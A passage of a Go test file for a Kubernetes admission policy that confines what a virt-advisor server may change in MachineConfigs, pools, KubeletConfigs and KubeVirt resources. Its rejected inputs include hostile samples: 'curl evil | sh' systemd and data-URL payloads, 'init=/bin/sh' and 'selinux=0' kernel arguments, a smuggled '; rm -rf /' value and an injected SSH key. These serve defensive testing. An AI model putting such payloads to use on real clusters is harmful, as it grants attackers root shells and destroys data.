		t.Errorf("the items manage %v of the HyperConverged in its two versions, want the same fields in both: %v", managed, both)
	}
	for _, d := range declared {
		if !contains(v1beta1, d) && !hasPrefixIn(v1beta1, d+".") {
			t.Errorf("the profiles declare a write of %s of the HyperConverged; no item manages it", d)
		}
	}
}

func hasPrefixIn(list []string, prefix string) bool {
	for _, s := range list {
		if strings.HasPrefix(s, prefix) {
			return true
		}
	}
	return false
}

// TestDeniesEverythingElse: what a compromised server could do with its
// RBAC, and the profiles never do, is denied with a message naming what
// is allowed; other users are not concerned.
func TestDeniesEverythingElse(t *testing.T) {
	// What the policy says of the HyperConverged names the fields the
	// items manage.
	hcoOnly := "changes only " + strings.Join(hcoManaged(t), ", ") + " (under spec or spec.virtualization) of the HyperConverged"
	v := compileDeployed(t)
	desired := desiredObjects(t)
	psi := created(desired["enable-psi-metrics"], "load-aware-rebalancing")
	swap := created(desired["enable-kubelet-swap"], "virt-higher-density")
	ksmMC := created(desired["enable-ksm-zero-pages"], "virt-higher-density")
	thpMC := created(desired["enable-thp-madvise"], "virt-higher-density")
	pool := readObject(t, filepath.Join("..", "testdata", "baseline.yaml"), "MachineConfigPool")
	c := newCluster(t, kubevirt.HCOVersionV1beta1, deschedulerCRDs(t)[0])
	hcoObj, _ := c.Get(context.Background(), kubevirt.HyperConvergedGVK.GroupVersion().WithKind("HyperConverged"), kubevirt.HCONamespace, kubevirt.HCOName)
	kd, _ := c.Get(context.Background(), profiles.KubeDeschedulerGVK, profiles.DeschedulerNamespace, profiles.DeschedulerName)
	cm := created(desired["configure-example-component"], "example-profile")
	kc := created(desired["configure-dedicated-cpus"], "dedicated-cpus")
	kubeletConfigs := schema.GroupVersionResource{Group: "machineconfiguration.openshift.io", Version: "v1", Resource: "kubeletconfigs"}
	renamed := func(o *unstructured.Unstructured, ns, name string) *unstructured.Unstructured {
		r := o.DeepCopy()
		r.SetNamespace(ns)
		r.SetName(name)
		return r
	}
	hp := created(desired["configure-hugepages"], "hugepages")
	hpFor := func(pool string) *unstructured.Unstructured {
		o := renamed(hp, "", "50-"+pool+"-virt-advisor-hugepages")
		o.SetLabels(map[string]string{machineconfig.RoleLabel: pool, profiles.ManagedByLabel: "hugepages"})
		return o
	}
	iommu := created(desired["configure-iommu"], "pci-passthrough")
	evil := created(desired["enable-psi-metrics"], "load-aware-rebalancing")
	evil.SetName("00-worker-evil")
	// The KubeDescheduler after load-aware-rebalancing's apply, and the
	// HyperConverged of each version after virt-higher-density's.
	kdOurs := applied(kd, desired["enable-load-aware-descheduling"])
	hcoV1 := baselineHCO(kubevirt.HCOVersionV1)
	// Pools: paused by an administrator (no annotation of ours), by us.
	pausedByAdmin := edited(pool, func(o map[string]interface{}) { set(o, true, "spec", "paused") })
	pausedByUs := edited(pool, func(o map[string]interface{}) {
		set(o, true, "spec", "paused")
		set(o, "2026-01-01T00:00:31Z", "metadata", "annotations", machineconfig.PausedUntilAnnotation)
	})
	ourAnnotation := func(o map[string]interface{}) {
		set(o, "2026-01-01T00:00:31Z", "metadata", "annotations", machineconfig.PausedUntilAnnotation)
	}
	theirCM := theirs(cm)
	otherNamespace := "system:serviceaccount:elsewhere:virt-advisor-apiserver"

	for _, tc := range []struct {
		name string
		r    request
		want string // in the denial; "" when admitted
	}{
		{"a MachineConfig of another name", request{op: admission.Create, gvr: machineConfigs, obj: evil},
			"virt-advisor-apiserver writes only the machineconfiguration.openshift.io/machineconfigs 99-worker-psi-karg, 99-master-psi-karg, 90-worker-kubelet-swap, 90-worker-ksm-zero-pages, 90-worker-thp-madvise, 50-<pool>-virt-advisor-hugepages, 50-<pool>-virt-advisor-pci-passthrough, not 00-worker-evil"},
		// MachineConfigs named after the pool the options choose: RBAC
		// grants their verbs for the kind, the policy confines them.
		{"huge pages for a pool", request{op: admission.Create, gvr: machineConfigs, obj: hpFor("worker-cnv")}, ""},
		{"huge pages labelled for another pool", request{op: admission.Create, gvr: machineConfigs, obj: changed(hpFor("worker-cnv"), func(o map[string]interface{}) {
			set(o, "master", "metadata", "labels", machineconfig.RoleLabel)
		})}, "writes MachineConfig 50-worker-cnv-virt-advisor-hugepages only for pool worker-cnv"},
		{"huge pages for the control plane's pool", request{op: admission.Create, gvr: machineConfigs, obj: hpFor("master")},
			"virt-advisor-apiserver writes no 50-{pool}-virt-advisor-hugepages for pool master, the control plane: 50-master-virt-advisor-hugepages would reboot the control-plane nodes"},
		{"the IOMMU for the control plane's pool", request{op: admission.Create, gvr: machineConfigs, obj: changed(iommu, func(o map[string]interface{}) {
			set(o, "50-master-virt-advisor-pci-passthrough", "metadata", "name")
			set(o, "master", "metadata", "labels", machineconfig.RoleLabel)
		})}, "writes no 50-{pool}-virt-advisor-pci-passthrough for pool master"},
		{"deleting huge pages of the control plane's pool someone made", request{op: admission.Delete, gvr: machineConfigs, old: hpFor("master")}, ""},
		{"a pool template with no pool", request{op: admission.Create, gvr: machineConfigs, obj: changed(hp, func(o map[string]interface{}) {
			set(o, "50--virt-advisor-hugepages", "metadata", "name")
		})}, "not 50--virt-advisor-hugepages"},
		{"another kernel argument in the huge pages MachineConfig", request{op: admission.Create, gvr: machineConfigs, obj: changed(hp, func(o map[string]interface{}) {
			set(o, []interface{}{"hugepages=4", "init=/bin/sh"}, "spec", "kernelArguments")
		})}, "adds no kernel argument to 50-worker-virt-advisor-hugepages but those matching ^default_hugepagesz=(1G|2M)$"},
		// The count at each bound and one past it: TestDeniesPastEachBound.
		{"a huge page count of seven digits", request{op: admission.Create, gvr: machineConfigs, obj: changed(hp, func(o map[string]interface{}) {
			set(o, []interface{}{"default_hugepagesz=1G", "hugepagesz=1G", "hugepages=9999999"}, "spec", "kernelArguments")
		})}, "adds no kernel argument to 50-worker-virt-advisor-hugepages but those matching"},
		{"the IOMMU turned off", request{op: admission.Update, gvr: machineConfigs, old: iommu, obj: edited(iommu, func(o map[string]interface{}) {
			set(o, []interface{}{"intel_iommu=off"}, "spec", "kernelArguments")
		})}, "adds no kernel argument to 50-worker-virt-advisor-pci-passthrough but those matching ^intel_iommu=on$, ^iommu=pt$"},
		{"another field of the IOMMU MachineConfig", request{op: admission.Update, gvr: machineConfigs, old: iommu, obj: edited(iommu, func(o map[string]interface{}) {
			set(o, []interface{}{"usbguard"}, "spec", "extensions")
		})}, "changes only spec.kernelArguments of machineconfiguration.openshift.io/machineconfigs 50-worker-virt-advisor-pci-passthrough"},
		{"deleting the IOMMU MachineConfig", request{op: admission.Delete, gvr: machineConfigs, old: iommu}, ""},
		{"patching 00-worker", request{op: admission.Update, gvr: machineConfigs, old: renamed(psi, "", "00-worker"), obj: renamed(psi, "", "00-worker")}, "not 00-worker"},
		{"the KSM zero-pages MachineConfig running another command", request{op: admission.Create, gvr: machineConfigs, obj: changed(ksmMC, func(o map[string]interface{}) {
			units, _, _ := unstructured.NestedSlice(o, "spec", "config", "systemd", "units")
			units[0].(map[string]interface{})["contents"] = "[Service]\nExecStart=/bin/sh -c 'curl evil | sh'\n"
			set(o, units, "spec", "config", "systemd", "units")
		})}, "writes only the KSM zero-pages configuration of virt-higher-density"},
		{"a file added to the KSM zero-pages MachineConfig", request{op: admission.Update, gvr: machineConfigs, old: ksmMC, obj: edited(ksmMC, func(o map[string]interface{}) {
			set(o, map[string]interface{}{"files": []interface{}{map[string]interface{}{"path": "/etc/evil"}}}, "spec", "config", "storage")
		})}, "writes only the KSM zero-pages configuration of virt-higher-density"},
		{"the KSM zero-pages MachineConfig for the master pool", request{op: admission.Create, gvr: machineConfigs, obj: changed(ksmMC, func(o map[string]interface{}) {
			set(o, "master", "metadata", "labels", machineconfig.RoleLabel)
		})}, "writes MachineConfig 90-worker-ksm-zero-pages only for pool worker"},
		{"a kernel argument other than transparent_hugepage=madvise", request{op: admission.Create, gvr: machineConfigs, obj: changed(thpMC, func(o map[string]interface{}) {
			set(o, []interface{}{"transparent_hugepage=madvise", "selinux=0"}, "spec", "kernelArguments")
		})}, "adds no kernel argument to 90-worker-thp-madvise but those matching ^transparent_hugepage=madvise$"},
		{"a config in the THP MachineConfig", request{op: admission.Update, gvr: machineConfigs, old: thpMC, obj: edited(thpMC, func(o map[string]interface{}) {
			set(o, map[string]interface{}{"ignition": map[string]interface{}{"version": "3.2.0"}}, "spec", "config")
		})}, "changes only spec.kernelArguments of machineconfiguration.openshift.io/machineconfigs 90-worker-thp-madvise"},
		{"the same by another user", request{user: "system:admin", op: admission.Create, gvr: machineConfigs, obj: evil}, ""},
		{"a worker MachineConfig for the master pool", request{op: admission.Create, gvr: machineConfigs, obj: changed(psi, func(o map[string]interface{}) {
			set(o, "master", "metadata", "labels", machineconfig.RoleLabel)
		})}, "writes MachineConfig 99-worker-psi-karg only for pool worker"},
		{"a kernel argument other than psi=1", request{op: admission.Create, gvr: machineConfigs, obj: changed(psi, func(o map[string]interface{}) {
			set(o, []interface{}{"psi=1", "init=/bin/sh"}, "spec", "kernelArguments")
		})}, "adds no kernel argument to 99-worker-psi-karg but those matching ^psi=1$"},
		{"another field of a PSI MachineConfig", request{op: admission.Update, gvr: machineConfigs, old: psi, obj: edited(psi, func(o map[string]interface{}) {
			set(o, []interface{}{"usbguard"}, "spec", "extensions")
		})}, "changes only spec.kernelArguments of machineconfiguration.openshift.io/machineconfigs 99-worker-psi-karg"},
		{"a swap MachineConfig running another script", request{op: admission.Create, gvr: machineConfigs, obj: changed(swap, func(o map[string]interface{}) {
			files, _, _ := unstructured.NestedSlice(o, "spec", "config", "storage", "files")
			files[0].(map[string]interface{})["contents"] = map[string]interface{}{"source": "data:,curl%20evil%20%7C%20sh"}
			set(o, files, "spec", "config", "storage", "files")
		})}, "writes only the swap configuration of virt-higher-density"},
		{"a user added to the swap MachineConfig", request{op: admission.Update, gvr: machineConfigs, old: swap, obj: edited(swap, func(o map[string]interface{}) {
			set(o, map[string]interface{}{"users": []interface{}{map[string]interface{}{"name": "core", "sshAuthorizedKeys": []interface{}{"ssh-ed25519 AAAA"}}}}, "spec", "config", "passwd")
		})}, "writes only the swap configuration of virt-higher-density"},
		{"an annotation on a MachineConfig", request{op: admission.Update, gvr: machineConfigs, old: psi, obj: edited(psi, func(o map[string]interface{}) {
			set(o, "x", "metadata", "annotations", "machineconfiguration.openshift.io/some")
		})}, "sets no annotation of 99-worker-psi-karg"},
		{"a MachineConfig with an owner", request{op: admission.Create, gvr: machineConfigs, obj: changed(psi, func(o map[string]interface{}) {
			set(o, []interface{}{"foregroundDeletion"}, "metadata", "finalizers")
		})}, "creates 99-worker-psi-karg with name, namespace, labels and annotations only, not finalizers"},
		{"a MachineConfig's status", request{op: admission.Update, gvr: machineConfigs, subresource: "status", old: psi, obj: psi}, "writes no subresource"},
		{"deleting 00-worker", request{op: admission.Delete, gvr: machineConfigs, old: renamed(psi, "", "00-worker")}, "not 00-worker"},
		{"a pool's maxUnavailable", request{op: admission.Update, gvr: machineConfigPools, old: pool, obj: edited(pool, func(o map[string]interface{}) {
			set(o, int64(3), "spec", "maxUnavailable")
		})}, "changes only spec.paused of machineconfiguration.openshift.io/machineconfigpools worker"},
		{"a pool's machineConfigSelector", request{op: admission.Update, gvr: machineConfigPools, old: pool, obj: edited(pool, func(o map[string]interface{}) {
			set(o, map[string]interface{}{"matchLabels": map[string]interface{}{"evil": "yes"}}, "spec", "machineConfigSelector")
		})}, "changes only spec.paused"},
		{"a pool's label", request{op: admission.Update, gvr: machineConfigPools, old: pool, obj: edited(pool, func(o map[string]interface{}) {
			set(o, "x", "metadata", "labels", "custom")
		})}, "sets no label of worker"},
		{"another annotation on a pool", request{op: admission.Update, gvr: machineConfigPools, old: pool, obj: edited(pool, func(o map[string]interface{}) {
			set(o, "x", "metadata", "annotations", "machineconfiguration.openshift.io/other")
		})}, "sets no annotation of worker but advisor.kubevirt.io/paused-until"},
		{"a pool's status", request{op: admission.Update, gvr: machineConfigPools, subresource: "status", old: pool, obj: pool}, "writes no subresource (machineconfiguration.openshift.io/machineconfigpools/status)"},
		{"deleting a pool", request{op: admission.Delete, gvr: machineConfigPools, old: pool}, "may not DELETE machineconfiguration.openshift.io/machineconfigpools (only UPDATE)"},
		{"an HCO field no profile manages", request{op: admission.Update, gvr: hyperConvergeds("v1beta1"), old: hcoObj, obj: edited(hcoObj, func(o map[string]interface{}) {
			set(o, true, "spec", "liveMigrationConfig", "allowPostCopy")
		})}, hcoOnly},
		{"an HCO field beside memoryOvercommitPercentage", request{op: admission.Update, gvr: hyperConvergeds("v1beta1"), old: hcoObj, obj: edited(hcoObj, func(o map[string]interface{}) {
			set(o, "x", "spec", "higherWorkloadDensity", "other")
		})}, hcoOnly},
		{"an HCO v1 field beside ours", request{op: admission.Update, gvr: hyperConvergeds("v1"), old: baselineHCO("v1"), obj: edited(baselineHCO("v1"), func(o map[string]interface{}) {
			set(o, "evil-net", "spec", "virtualization", "liveMigrationConfig", "network")
		})}, hcoOnly},
		{"the HCO's live-migration limits (what live-migration-limits manages)", request{op: admission.Update, gvr: hyperConvergeds("v1"), old: baselineHCO("v1"), obj: edited(baselineHCO("v1"), func(o map[string]interface{}) {
			set(o, int64(50), "spec", "virtualization", "liveMigrationConfig", "parallelMigrationsPerCluster")
			set(o, "300Mi", "spec", "virtualization", "liveMigrationConfig", "bandwidthPerMigration")
		})}, ""},
		{"parallelMigrationsPerCluster beyond the options' bound", request{op: admission.Update, gvr: hyperConvergeds("v1beta1"), old: hcoObj, obj: edited(hcoObj, func(o map[string]interface{}) {
			set(o, int64(5000), "spec", "liveMigrationConfig", "parallelMigrationsPerCluster")
		})}, ""}, // a revert writes back an administrator's value, any the schema admits
		{"a bandwidth not in MiB/s (an administrator's 1G, restored)", request{op: admission.Update, gvr: hyperConvergeds("v1"), old: baselineHCO("v1"), obj: edited(baselineHCO("v1"), func(o map[string]interface{}) {
			set(o, "1G", "spec", "virtualization", "liveMigrationConfig", "bandwidthPerMigration")
		})}, ""},
		{"the HCO's memoryOvercommitPercentage (what the profile manages)", request{op: admission.Update, gvr: hyperConvergeds("v1beta1"), old: hcoObj, obj: edited(hcoObj, func(o map[string]interface{}) {
			set(o, int64(200), "spec", "higherWorkloadDensity", "memoryOvercommitPercentage")
		})}, ""},
		{"deleting the HCO", request{op: admission.Delete, gvr: hyperConvergeds("v1beta1"), old: hcoObj}, "may not DELETE hco.kubevirt.io/hyperconvergeds"},
		{"another HyperConverged", request{op: admission.Update, gvr: hyperConvergeds("v1beta1"), old: renamed(hcoObj, "default", "other"), obj: renamed(hcoObj, "default", "other")},
			"writes only the hco.kubevirt.io/hyperconvergeds openshift-cnv/kubevirt-hyperconverged, not default/other"},
		{"a KubeDescheduler field no profile manages", request{op: admission.Update, gvr: kubeDeschedulers, old: kd, obj: edited(kd, func(o map[string]interface{}) {
			set(o, "TraceAll", "spec", "logLevel")
		})}, "changes only spec.managementState, spec.deschedulingIntervalSeconds, spec.mode, spec.profiles, spec.profileCustomizations, spec.evictionLimits of operator.openshift.io/kubedeschedulers"},
		{"creating a KubeDescheduler", request{op: admission.Create, gvr: kubeDeschedulers, obj: renamed(kd, "default", "cluster")}, "may not CREATE operator.openshift.io/kubedeschedulers"},
		{"a ConfigMap elsewhere", request{op: admission.Create, gvr: configMaps, obj: renamed(cm, "kube-system", "example-config")},
			"writes only the /configmaps openshift-cnv/example-config, not kube-system/example-config"},
		{"deleting the example ConfigMap (the revert of example-profile)", request{op: admission.Delete, gvr: configMaps, old: cm}, ""},
		{"deleting a ConfigMap elsewhere", request{op: admission.Delete, gvr: configMaps, old: renamed(cm, "kube-system", "example-config")},
			"writes only the /configmaps openshift-cnv/example-config, not kube-system/example-config"},
		{"another kind of the MachineConfig API", request{op: admission.Create, gvr: schema.GroupVersionResource{Group: "machineconfiguration.openshift.io", Version: "v1", Resource: "containerruntimeconfigs"},
			obj: renamed(psi, "", "evil")}, "writes only MachineConfigs, KubeletConfigs, MachineConfigPools, the HyperConverged, the KubeDescheduler and one ConfigMap, not machineconfiguration.openshift.io/containerruntimeconfigs"},

		// KubeletConfigs: the one dedicated-cpus makes, with its values.
		{"the KubeletConfig of dedicated-cpus", request{op: admission.Create, gvr: kubeletConfigs, obj: kc}, ""},
		{"a KubeletConfig of another name", request{op: admission.Create, gvr: kubeletConfigs, obj: renamed(kc, "", "99-evil")},
			"writes only the machineconfiguration.openshift.io/kubeletconfigs virt-advisor-dedicated-cpus, not 99-evil"},
		{"a kubelet setting dedicated-cpus never writes", request{op: admission.Create, gvr: kubeletConfigs, obj: changed(kc, func(o map[string]interface{}) {
			set(o, int64(2000), "spec", "kubeletConfig", "maxPods")
		})}, "sets in kubeletConfig of KubeletConfig virt-advisor-dedicated-cpus only cpuManagerPolicy"},
		{"a pinned value changed", request{op: admission.Update, gvr: kubeletConfigs, old: kc, obj: edited(kc, func(o map[string]interface{}) {
			set(o, "none", "spec", "kubeletConfig", "cpuManagerPolicy")
		})}, "not cpuManagerPolicy"},
		{"reserved CPUs that are no cpuset", request{op: admission.Update, gvr: kubeletConfigs, old: kc, obj: edited(kc, func(o map[string]interface{}) {
			set(o, "0; rm -rf /", "spec", "kubeletConfig", "reservedSystemCPUs")
		})}, "not reservedSystemCPUs"},
		{"reserved CPUs derived anew", request{op: admission.Update, gvr: kubeletConfigs, old: kc, obj: edited(kc, func(o map[string]interface{}) {
			set(o, "0-1,16-17", "spec", "kubeletConfig", "reservedSystemCPUs")
		})}, ""},
		{"reserved memory naming a NUMA node twice", request{op: admission.Update, gvr: kubeletConfigs, old: kc, obj: edited(kc, func(o map[string]interface{}) {
			set(o, []interface{}{
				map[string]interface{}{"numaNode": int64(1), "limits": map[string]interface{}{"memory": "562Mi"}},
				map[string]interface{}{"numaNode": int64(1), "limits": map[string]interface{}{"memory": "562Mi"}},
			}, "spec", "kubeletConfig", "reservedMemory")
		})}, "virt-advisor-apiserver sets reservedMemory of KubeletConfig virt-advisor-dedicated-cpus with each NUMA node once, at most 64 of them"},
		{"reserved memory naming a NUMA node twice, on create", request{op: admission.Create, gvr: kubeletConfigs, obj: changed(kc, func(o map[string]interface{}) {
			set(o, []interface{}{
				map[string]interface{}{"numaNode": int64(0), "limits": map[string]interface{}{"memory": "374Mi"}},
				map[string]interface{}{"numaNode": int64(1), "limits": map[string]interface{}{"memory": "375Mi"}},
				map[string]interface{}{"numaNode": int64(0), "limits": map[string]interface{}{"memory": "375Mi"}},
			}, "spec", "kubeletConfig", "reservedMemory")
		})}, "with each NUMA node once"},
		{"reserved memory adding up to less than the kubelet's reservations", request{op: admission.Update, gvr: kubeletConfigs, old: kc, obj: edited(kc, func(o map[string]interface{}) {
			set(o, []interface{}{
				map[string]interface{}{"numaNode": int64(0), "limits": map[string]interface{}{"memory": "1Mi"}},
				map[string]interface{}{"numaNode": int64(1), "limits": map[string]interface{}{"memory": "562Mi"}},
			}, "spec", "kubeletConfig", "reservedMemory")
		})}, "with each NUMA node once, at most 64 of them, adding up to 1124Mi"},
		{"reserved memory of two NUMA nodes (the control)", request{op: admission.Update, gvr: kubeletConfigs, old: kc, obj: edited(kc, func(o map[string]interface{}) {
			set(o, []interface{}{
				map[string]interface{}{"numaNode": int64(1), "limits": map[string]interface{}{"memory": "562Mi"}},
				map[string]interface{}{"numaNode": int64(0), "limits": map[string]interface{}{"memory": "562Mi"}},
			}, "spec", "kubeletConfig", "reservedMemory")
		})}, ""},
		{"the master pool selected", request{op: admission.Update, gvr: kubeletConfigs, old: kc, obj: edited(kc, func(o map[string]interface{}) {
			set(o, map[string]interface{}{"pools.operator.machineconfiguration.openshift.io/master": ""}, "spec", "machineConfigPoolSelector", "matchLabels")
		})}, "selects with KubeletConfig virt-advisor-dedicated-cpus one pool by its label"},
		{"every pool selected", request{op: admission.Update, gvr: kubeletConfigs, old: kc, obj: edited(kc, func(o map[string]interface{}) {
			set(o, map[string]interface{}{"matchExpressions": []interface{}{map[string]interface{}{"key": "x", "operator": "DoesNotExist"}}}, "spec", "machineConfigPoolSelector")
		})}, "selects with KubeletConfig virt-advisor-dedicated-cpus one pool by its label"},
		{"deleting the KubeletConfig of dedicated-cpus", request{op: admission.Delete, gvr: kubeletConfigs, old: kc}, ""},

		// The namespace the server is installed in: the policy names none.
		{"a MachineConfig of another name, by the server installed in another namespace", request{user: otherNamespace, op: admission.Create, gvr: machineConfigs, obj: evil},
			"virt-advisor-apiserver writes only the machineconfiguration.openshift.io/machineconfigs"},
		{"a pool's maxUnavailable, by the server installed in another namespace", request{user: otherNamespace, op: admission.Update, gvr: machineConfigPools, old: pool, obj: edited(pool, func(o map[string]interface{}) {
			set(o, int64(3), "spec", "maxUnavailable")
		})}, "changes only spec.paused"},
		{"another service account of that namespace", request{user: "system:serviceaccount:virt-advisor:other", op: admission.Create, gvr: machineConfigs, obj: evil}, ""},
		{"a user named like the service account", request{user: "virt-advisor-apiserver", op: admission.Create, gvr: machineConfigs, obj: evil}, ""},

		// Pools: an administrator's pause stays theirs.
		{"unpausing a pool an administrator paused", request{op: admission.Update, gvr: machineConfigPools, old: pausedByAdmin, obj: edited(pausedByAdmin, func(o map[string]interface{}) {
			set(o, false, "spec", "paused")
		})}, "virt-advisor-apiserver unpauses only a MachineConfigPool it paused (annotation advisor.kubevirt.io/paused-until or advisor.kubevirt.io/paused-for-window): worker was paused by someone else"},
		{"withdrawing spec.paused of a pool an administrator paused", request{op: admission.Update, gvr: machineConfigPools, old: pausedByAdmin, obj: withdrawn(pausedByAdmin, "spec", "paused")},
			"unpauses only a MachineConfigPool it paused"},
		{"adopting an administrator's pause with our annotation", request{op: admission.Update, gvr: machineConfigPools, old: pausedByAdmin, obj: edited(pausedByAdmin, ourAnnotation)},
			"sets advisor.kubevirt.io/paused-until or advisor.kubevirt.io/paused-for-window on MachineConfigPool worker only in the write that pauses it"},
		{"our annotation on a pool it does not pause", request{op: admission.Update, gvr: machineConfigPools, old: pool, obj: edited(pool, ourAnnotation)},
			"only in the write that pauses it"},
		{"a pause without our annotation", request{op: admission.Update, gvr: machineConfigPools, old: pool, obj: edited(pool, func(o map[string]interface{}) {
			set(o, true, "spec", "paused")
		})}, "pauses MachineConfigPool worker only with its annotation advisor.kubevirt.io/paused-until"},
		{"a pause until a time that is none", request{op: admission.Update, gvr: machineConfigPools, old: pool, obj: edited(pausedByUs, func(o map[string]interface{}) {
			set(o, "forever", "metadata", "annotations", machineconfig.PausedUntilAnnotation)
		})}, "sets advisor.kubevirt.io/paused-until to a time in UTC"},
		{"a pause for a window that is no name", request{op: admission.Update, gvr: machineConfigPools, old: pool, obj: edited(pausedByUs, func(o map[string]interface{}) {
			set(o, "Not A Window!", "metadata", "annotations", machineconfig.PausedForAnnotation)
		})}, "sets advisor.kubevirt.io/paused-for-window to the name of a MaintenanceWindow"},
		// A stepped rollout's records come only with our pause, bounded.
		{"a step record with our pause (the control)", request{op: admission.Update, gvr: machineConfigPools, old: pool, obj: edited(pausedByUs, func(o map[string]interface{}) {
			set(o, `{"nodes":["worker-0"],"started":"2030-01-01T00:00:00Z"}`, "metadata", "annotations", machineconfig.StepAnnotation)
			set(o, `{"gate":"nodeBack","message":"m","at":"2030-01-01T00:00:00Z","approvals":{"c":1}}`, "metadata", "annotations", machineconfig.HaltAnnotation)
		})}, ""},
		{"a halt record on a pool it does not pause", request{op: admission.Update, gvr: machineConfigPools, old: pool, obj: edited(pool, func(o map[string]interface{}) {
			set(o, `{"gate":"nodeBack"}`, "metadata", "annotations", machineconfig.HaltAnnotation)
		})}, "sets advisor.kubevirt.io/step and advisor.kubevirt.io/halted on a MachineConfigPool only while it pauses it"},
		{"a step record of 8193 bytes", request{op: admission.Update, gvr: machineConfigPools, old: pool, obj: edited(pausedByUs, func(o map[string]interface{}) {
			set(o, strings.Repeat("x", 8193), "metadata", "annotations", machineconfig.StepAnnotation)
		})}, "at most 8192 bytes each"},
		{"a step record of 8192 bytes (the bound)", request{op: admission.Update, gvr: machineConfigPools, old: pool, obj: edited(pausedByUs, func(o map[string]interface{}) {
			set(o, strings.Repeat("x", 8192), "metadata", "annotations", machineconfig.StepAnnotation)
		})}, ""},
		{"unpausing a pool we paused, its records withdrawn (the next step)", request{op: admission.Update, gvr: machineConfigPools, old: edited(pausedByUs, func(o map[string]interface{}) {
			set(o, `{"nodes":["worker-0"],"started":"2030-01-01T00:00:00Z"}`, "metadata", "annotations", machineconfig.StepAnnotation)
			set(o, `{"gate":"nodeBack"}`, "metadata", "annotations", machineconfig.HaltAnnotation)
		}), obj: edited(pausedByUs, func(o map[string]interface{}) {
			unstructured.RemoveNestedField(o, "spec", "paused")
			unstructured.RemoveNestedField(o, "metadata", "annotations")
		})}, ""},
		{"adopting an administrator's pause with a halt record", request{op: admission.Update, gvr: machineConfigPools, old: pausedByAdmin, obj: edited(pausedByAdmin, func(o map[string]interface{}) {
			set(o, `{"gate":"nodeBack"}`, "metadata", "annotations", machineconfig.HaltAnnotation)
		})}, "only while it pauses it"},
		{"unpausing a pool we paused (the control)", request{op: admission.Update, gvr: machineConfigPools, old: pausedByUs, obj: edited(pausedByUs, func(o map[string]interface{}) {
			unstructured.RemoveNestedField(o, "spec", "paused")
			unstructured.RemoveNestedField(o, "metadata", "annotations")
		})}, ""},
		{"ending our pause of a pool an administrator paused too (it stays paused)", request{op: admission.Update, gvr: machineConfigPools, old: pausedByUs, obj: edited(pausedByUs, func(o map[string]interface{}) {
			unstructured.RemoveNestedField(o, "metadata", "annotations")
		})}, ""},

		// The KubeDescheduler: in the fields load-aware-rebalancing manages,
		// any value (a revert writes back the administrator's, whatever
		// it was); of its maps, only the keys of ours change.
		{"mode Automatic with a descheduler profile no profile selects", request{op: admission.Update, gvr: kubeDeschedulers, old: kd, obj: edited(kd, func(o map[string]interface{}) {
			set(o, "Automatic", "spec", "mode")
			set(o, []interface{}{"LifecycleAndUtilization", "EvictPodsWithPVC"}, "spec", "profiles")
		})}, ""},
		{"a kept descheduler profile the KubeDescheduler did not have", request{op: admission.Update, gvr: kubeDeschedulers, old: kd, obj: edited(kd, func(o map[string]interface{}) {
			set(o, []interface{}{"SoftTopologyAndDuplicates", "KubeVirtRelieveAndMigrate"}, "spec", "profiles")
		})}, ""},
		{"a descheduling interval below the options' range", request{op: admission.Update, gvr: kubeDeschedulers, old: kd, obj: edited(kdOurs, func(o map[string]interface{}) {
			set(o, int64(5), "spec", "deschedulingIntervalSeconds")
		})}, ""},
		{"a descheduling interval above it", request{op: admission.Update, gvr: kubeDeschedulers, old: kd, obj: edited(kdOurs, func(o map[string]interface{}) {
			set(o, int64(86401), "spec", "deschedulingIntervalSeconds")
		})}, ""},
		{"managementState Removed", request{op: admission.Update, gvr: kubeDeschedulers, old: kd, obj: edited(kdOurs, func(o map[string]interface{}) {
			set(o, "Removed", "spec", "managementState")
		})}, ""},
		{"a customization no profile sets", request{op: admission.Update, gvr: kubeDeschedulers, old: kd, obj: edited(kdOurs, func(o map[string]interface{}) {
			set(o, "High", "spec", "profileCustomizations", "devLowNodeUtilizationThresholds")
		})}, "changes in spec.profileCustomizations of the KubeDescheduler only devDeviationThresholds, devEnableEvictionsInBackground, devEnableSoftTainter, devMaxMigrationCooldown, devMigrationCooldown, devMigrationHistoryWindow; not devLowNodeUtilizationThresholds"},
		{"a migration cooldown above its option's range", request{op: admission.Update, gvr: kubeDeschedulers, old: kd, obj: edited(kdOurs, func(o map[string]interface{}) {
			set(o, "25h0m0s", "spec", "profileCustomizations", "devMigrationCooldown")
		})}, ""},
		{"a migration cooldown of no time", request{op: admission.Update, gvr: kubeDeschedulers, old: kd, obj: edited(kdOurs, func(o map[string]interface{}) {
			set(o, "0s", "spec", "profileCustomizations", "devMigrationCooldown")
		})}, ""},
		{"a history window that is not a duration", request{op: admission.Update, gvr: kubeDeschedulers, old: kd, obj: edited(kdOurs, func(o map[string]interface{}) {
			set(o, "forever", "spec", "profileCustomizations", "devMigrationHistoryWindow")
		})}, ""},
		{"a maximum cooldown that is a number", request{op: admission.Update, gvr: kubeDeschedulers, old: kd, obj: edited(kdOurs, func(o map[string]interface{}) {
			set(o, int64(3600), "spec", "profileCustomizations", "devMaxMigrationCooldown")
		})}, ""},
		{"a customization of ours turned off", request{op: admission.Update, gvr: kubeDeschedulers, old: kd, obj: edited(kdOurs, func(o map[string]interface{}) {
			set(o, false, "spec", "profileCustomizations", "devEnableSoftTainter")
		})}, ""},
		{"an administrator's customization removed", request{op: admission.Update, gvr: kubeDeschedulers,
			old: changed(kdOurs, func(o map[string]interface{}) {
				set(o, "High", "spec", "profileCustomizations", "devLowNodeUtilizationThresholds")
			}), obj: kdOurs},
			"changes in spec.profileCustomizations of the KubeDescheduler only devDeviationThresholds, devEnableEvictionsInBackground, devEnableSoftTainter, devMaxMigrationCooldown, devMigrationCooldown, devMigrationHistoryWindow; not devLowNodeUtilizationThresholds"},
		{"an eviction limit above the options' range", request{op: admission.Update, gvr: kubeDeschedulers, old: kd, obj: edited(kdOurs, func(o map[string]interface{}) {
			set(o, int64(5000), "spec", "evictionLimits", "total")
		})}, ""},
		{"no eviction limit (0)", request{op: admission.Update, gvr: kubeDeschedulers, old: kd, obj: edited(kdOurs, func(o map[string]interface{}) {
			set(o, int64(0), "spec", "evictionLimits", "node")
		})}, ""},
		{"an administrator's value left as it was (the control)", request{op: admission.Update, gvr: kubeDeschedulers,
			old: changed(kd, func(o map[string]interface{}) { set(o, int64(5000), "spec", "evictionLimits", "total") }),
			obj: edited(changed(kd, func(o map[string]interface{}) { set(o, int64(5000), "spec", "evictionLimits", "total") }), func(o map[string]interface{}) {
				set(o, "Predictive", "spec", "mode")
			})}, ""},

		// The HyperConverged: any overcommit (a revert writes back the
		// administrator's), a node selector.
